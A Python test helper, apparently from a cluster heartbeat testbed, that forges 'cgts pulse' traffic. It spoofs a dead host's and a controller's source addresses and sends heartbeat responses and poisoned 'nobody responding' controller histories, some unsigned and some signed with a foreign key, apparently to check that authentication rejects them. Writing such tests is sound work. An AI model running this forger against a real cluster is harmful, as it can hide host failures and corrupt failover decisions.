#!/usr/bin/env python3
"""A pulse forger on a testbed node (tests/testbed/cases.sh, pulse-auth-forger).
usage: forger.py DEAD_ADDR CONTROLLER_ADDR OWN_ADDR SECONDS. For SECONDS:
  - answers every request it sniffs on the management multicast group for a dead host, from
    that host's (spoofed) address, with the request's sequence and controller bits, unsigned
    and signed with a key of its own in turn;
  - sends requests "from" a controller to the management group (every client is bound to the
    group), carrying that controller's history as 0 hosts responding
    (a poisoned view for the other controller's SM).
Prints one JSON line of counts. Loopback-free: run inside the testbed's namespaces only."""
import hashlib, hmac, json, os, select, socket, struct, sys, time

group, port, agent_port = "239.1.1.2", 2106, 2103
dead_addr, ctrl_addr, own_addr = sys.argv[1:4]
seconds = float(sys.argv[4])
IP_TRANSPARENT = 19  # send from an address this node does not have (root in its namespace)
key = os.urandom(32)  # not the cluster's

rx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
rx.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
rx.bind((group, port))
rx.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
              socket.inet_aton(group) + socket.inet_aton(own_addr))

def spoofing(addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
    s.bind((addr, 0))
    return s

tx = spoofing(dead_addr)      # the dead host's address
spoof = spoofing(ctrl_addr)   # a controller's address
# The group, out of this node's testbed interface only, and not back to our own receiver.
spoof.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own_addr))
spoof.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
spoof.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)

def history(ctrl, net, responding):
    ring = b"".join(struct.pack("<HH", 9, responding) for _ in range(20))
    return struct.pack("<HHHH", ctrl | net << 4, 20, 20, 0) + ring

def sign(b):
    t = b + b"HBA1" + struct.pack("<q", int(time.time() * 1000))
    return t + hmac.new(key, t, hashlib.sha256).digest()

counts = {"forged_responses": 0, "forged_requests": 0}
end, seq, n = time.time() + seconds, 1, 0
while time.time() < end:
    ready, _, _ = select.select([rx], [], [], 0.05)
    if ready:
        data, (src, _) = rx.recvfrom(1024)
        if len(data) >= 63 and data[:15] == b"cgts pulse req:":
            seq, clue, flags, version = struct.unpack_from("<IIII", data, 47)
            rsp = (b"cgts pulse rsp:" + b"dead".ljust(32, b"\0")
                   + struct.pack("<IIII", seq, clue, (flags & 0x300) | 3, 0))
            tx.sendto(rsp if n % 2 == 0 else sign(rsp), (src, agent_port))
            counts["forged_responses"] += 1
            n += 1
    # A poisoned view: controller-0 "sees nobody", sent as controller-0 to every client.
    hist = history(0, 0, 0)
    cluster = struct.pack("<BBHHHHBB", 1, 0, 0x5AA5, 0, 100, 12 + len(hist), 0, 1) + hist
    req = (b"cgts pulse req:" + b"".ljust(32, b"\0")
           + struct.pack("<IIII", seq + 1, 0, 0, 1) + cluster)
    spoof.sendto(req if counts["forged_requests"] % 2 == 0 else sign(req), (group, port))
    counts["forged_requests"] += 1
print(json.dumps(counts))
